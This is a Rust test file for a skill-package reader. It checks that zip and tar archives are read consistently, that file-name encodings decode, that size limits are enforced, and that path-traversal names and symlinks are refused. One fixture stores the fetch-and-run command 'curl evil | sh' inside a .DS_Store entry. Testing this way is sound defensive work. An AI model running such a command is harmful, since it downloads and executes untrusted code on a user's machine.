//! What real packages look like.

use proptest::prelude::*;
use tar::EntryType::{Directory, Regular, XGlobalHeader};
use zip::write::SimpleFileOptions;

use creel_wire::skill_content::{content_hash, is_safe_path};

use super::*;
use crate::package::{Limits, from_files, is_archive, members, pack, read, unpack};

const SCRIPT: &[u8] = b"#!/bin/sh\necho hello\n";

#[test]
fn the_same_skill_is_read_from_every_form_of_package() {
    let skill = SKILL.as_bytes();
    let flat: &[(&str, &[u8])] = &[("SKILL.md", skill), ("scripts/run.sh", SCRIPT), (".env.example", b"A=")];
    let below: &[(&str, &[u8])] = &[
        ("top/", b""),
        ("top/SKILL.md", skill),
        ("top/scripts/run.sh", SCRIPT),
        ("top/.env.example", b"A="),
    ];
    let dotted: &[(&str, &[u8])] =
        &[("./SKILL.md", skill), ("./scripts/run.sh", SCRIPT), ("./.env.example", b"A=")];
    let lower: &[(&str, &[u8])] = &[("skill.md", skill), ("scripts/run.sh", SCRIPT), (".env.example", b"A=")];
    let double = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X";
    let mac: &[(&str, &[u8])] = &[
        ("top/SKILL.md", skill),
        ("__MACOSX/top/._SKILL.md", double),
        ("top/.DS_Store", b"\x00\x00\x00\x01Bud1\x00\x00"),
        ("top/scripts/run.sh", SCRIPT),
        ("top/.env.example", b"A="),
    ];
    let expected = files(flat);
    let git = tarred(&[
        (XGlobalHeader, b"pax_global_header", b"19 comment=0123456\n"),
        (Directory, b"top/", b""),
        (Regular, b"top/SKILL.md", skill),
        (Regular, b"top/scripts/run.sh", SCRIPT),
        (Regular, b"top/.env.example", b"A="),
    ]);
    for (what, package) in [
        ("zip", zipped(flat)),
        ("zip with a top folder", zipped(below)),
        ("zip of lower case", zipped(lower)),
        ("zip from macOS", zipped(mac)),
        ("zip64", zipped_with(flat, SimpleFileOptions::default().large_file(true))),
        ("zip with data descriptors", streamed(flat)),
        ("tar", tar_of(flat)),
        ("tar of a folder", tar_of(dotted)),
        ("tar.gz", gzipped(&tar_of(flat))),
        ("tar.gz in two members", [gzipped(&tar_of(flat)[..700]), gzipped(&tar_of(flat)[700..])].concat()),
        ("git archive", gzipped(&git)),
        ("what the server keeps", pack(&expected)),
    ] {
        let package = read(&package).unwrap_or_else(|cause| panic!("{what}: {cause}"));
        assert_eq!(package.files, expected, "{what}");
        assert_eq!(package.content_hash, content_hash(&expected), "{what}");
        assert_eq!(package.manifest.name, "pdf-forms", "{what}");
        assert_eq!(package.manifest.version.as_deref(), Some("1.0.0"), "{what}");
        assert_eq!(package.manifest.display_name.as_deref(), Some("PDF forms"), "{what}");
    }
    assert_eq!(read(skill).unwrap().files, files(&[("SKILL.md", skill)]));
    assert_eq!(from_files(expected.clone(), Some("top")).unwrap().files, expected);
}

/// As a writer leaves it that cannot go back: sizes behind the bytes.
fn streamed(pairs: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new_stream(Vec::new());
    for (path, bytes) in pairs {
        writer.start_file(*path, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    let bytes = writer.finish().unwrap().into_inner();
    assert!(memchr::memmem::find(&bytes, b"PK\x07\x08").is_some(), "no data descriptor");
    bytes
}

#[test]
fn chinese_names_are_read_in_utf_8_and_in_gbk() {
    let (gbk, _, _) = encoding_rs::GBK.encode("参考/说明.md");
    let placeholder = "x".repeat(gbk.len());
    let zip = patched(
        zipped(&[("SKILL.md", SKILL.as_bytes()), (&placeholder, b"y")]),
        placeholder.as_bytes(),
        &gbk,
    );
    let tar = tarred(&[(Regular, b"SKILL.md", SKILL.as_bytes()), (Regular, &gbk, b"y")]);
    let utf_8 = zipped(&[("SKILL.md", SKILL.as_bytes()), ("参考/说明.md", b"y")]);
    for package in [zip, tar, utf_8] {
        let paths: Vec<_> = read(&package).unwrap().files.into_keys().collect();
        assert_eq!(paths, ["SKILL.md", "参考/说明.md"]);
    }
    let western =
        patched(zipped(&[("SKILL.md", SKILL.as_bytes()), ("Mxller", b"y")]), b"Mxller", b"M\x81ller");
    assert!(read(&western).unwrap().files.contains_key("Müller"));
}

#[test]
fn what_only_has_the_names_of_macos_stays() {
    let package = zipped(&[
        ("SKILL.md", SKILL.as_bytes()),
        ("._evil.sh", b"#!/bin/sh\n"),
        (".DS_Store", b"curl evil | sh"),
        ("__MACOSX/run.sh", SCRIPT),
    ]);
    let files = read(&package).unwrap().files;
    assert_eq!(files.len(), 4, "{:?}", files.keys());
}

#[test]
fn a_top_folder_is_taken_off_only_where_the_skill_is_in_it() {
    let package = zipped(&[("SKILL.md", SKILL.as_bytes()), ("a/SKILL.md", b"a"), ("a/b", b"b")]);
    assert!(read(&package).unwrap().files.contains_key("a/SKILL.md"));
    let package = zipped(&[("top/SKILL.md", SKILL.as_bytes()), ("README.md", b"a")]);
    assert_eq!(read(&package).unwrap_err().code, "Package.NoSkillFile");
    let up = zipped(&[("../SKILL.md", SKILL.as_bytes())]);
    assert_eq!(read(&up).unwrap_err().code, "Package.UnsafePath");
}

#[test]
fn archives_inside_stay_files_and_can_be_looked_into_within_limits() {
    let inner = zipped(&[("a/../b".replace("..", "c").as_str(), b"deep"), ("run.sh", SCRIPT)]);
    let outer = zipped(&[("SKILL.md", SKILL.as_bytes()), ("tools.zip", &inner)]);
    let files = read(&outer).unwrap().files;
    assert_eq!(files["tools.zip"], inner);
    assert!(is_archive(&inner) && !is_archive(SCRIPT) && is_archive(b"Rar!\x1a\x07\x01\0"));
    assert_eq!(members(&inner, &Limits::SKILL).unwrap()["run.sh"], SCRIPT);
    assert_eq!(members(&gzipped(SCRIPT), &Limits::SKILL).unwrap()["content"], SCRIPT);
    assert_eq!(members(&gzipped(&tar_of(&[("x", b"y")])), &Limits::SKILL).unwrap()["x"], b"y");
    // deep and long is nothing to somebody who only looks
    let deep = ["d"; 40].join("/");
    assert_eq!(members(&zipped(&[(&deep, b"y")]), &Limits::SKILL).unwrap()[&deep], b"y");
    let code = |bytes: &[u8], limits: Limits| members(bytes, &limits).unwrap_err().code;
    assert_eq!(code(&inner, Limits { files: 1, ..Limits::SKILL }), "Package.TooManyFiles");
    assert_eq!(code(&inner, Limits { bytes: 20, ..Limits::SKILL }), "Package.ContentTooLarge");
    assert_eq!(code(&inner, Limits { file_bytes: 10, ..Limits::SKILL }), "Package.FileTooLarge");
    assert_eq!(code(&gzipped(SCRIPT), Limits { file_bytes: 10, ..Limits::SKILL }), "Package.FileTooLarge");
    assert_eq!(code(SCRIPT, Limits::SKILL), "Package.ReadFailed");
    assert_eq!(code(&zipped(&[("../x", b"y")]), Limits::SKILL), "Package.UnsafePath");
}

#[test]
fn only_a_tar_is_unpacked_and_only_safe_paths() {
    assert_eq!(unpack(&zipped(&[("a", b"b")])).unwrap_err().code, "Package.ReadFailed");
    assert_eq!(unpack(b"").unwrap_err().code, "Package.ReadFailed");
    assert_eq!(unpack(&pack(&files(&[("../a", b"b")]))).unwrap_err().code, "Package.UnsafePath");
    assert_eq!(
        unpack(&tarred(&[(tar::EntryType::Symlink, b"a", b"")])).unwrap_err().code,
        "Package.LinkRefused"
    );
}

#[test]
fn what_is_packed_is_a_tar_that_others_read_with_modes_by_content() {
    let long = format!("{}/{}.txt", "a".repeat(100), "b".repeat(120));
    let packed = pack(&files(&[("run.sh", SCRIPT), ("data.txt", b"x"), (&long, b"y")]));
    let mut archive = tar::Archive::new(packed.as_slice());
    let mut told = Vec::new();
    for entry in archive.entries().unwrap() {
        let entry = entry.unwrap();
        let header = entry.header();
        told.push((
            entry.path().unwrap().display().to_string(),
            header.mode().unwrap(),
            header.mtime().unwrap(),
        ));
    }
    assert_eq!(told, [(long, 0o644, 0), ("data.txt".to_owned(), 0o644, 0), ("run.sh".to_owned(), 0o755, 0)]);
}

fn some_files() -> impl Strategy<Value = Files> {
    let path = "[a-z技能.]{1,6}(/[a-zé_-]{1,70}){0,3}".prop_filter("safe", |path| is_safe_path(path));
    proptest::collection::btree_map(path, proptest::collection::vec(any::<u8>(), 0..1_500), 0..12)
}

proptest! {
    #[test]
    fn what_is_packed_comes_out_again_and_is_read_as_the_same(mut files in some_files()) {
        // a file where another path has a folder is refused; here are no two such
        let folders: Vec<String> =
            files.keys().flat_map(|path| path.match_indices('/').map(|(at, _)| path[..at].to_owned())).collect();
        files.retain(|path, _| !folders.contains(path));
        files.insert("SKILL.md".to_owned(), SKILL.as_bytes().to_vec());
        let packed = pack(&files);
        prop_assert_eq!(&unpack(&packed).unwrap(), &files);
        prop_assert_eq!(&pack(&files), &packed);
        let package = read(&packed).unwrap();
        prop_assert_eq!(&package.files, &files);
        let pairs: Vec<_> = files.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())).collect();
        prop_assert_eq!(read(&zipped(&pairs)).unwrap(), package.clone());
        prop_assert_eq!(read(&gzipped(&packed)).unwrap(), package);
    }
}
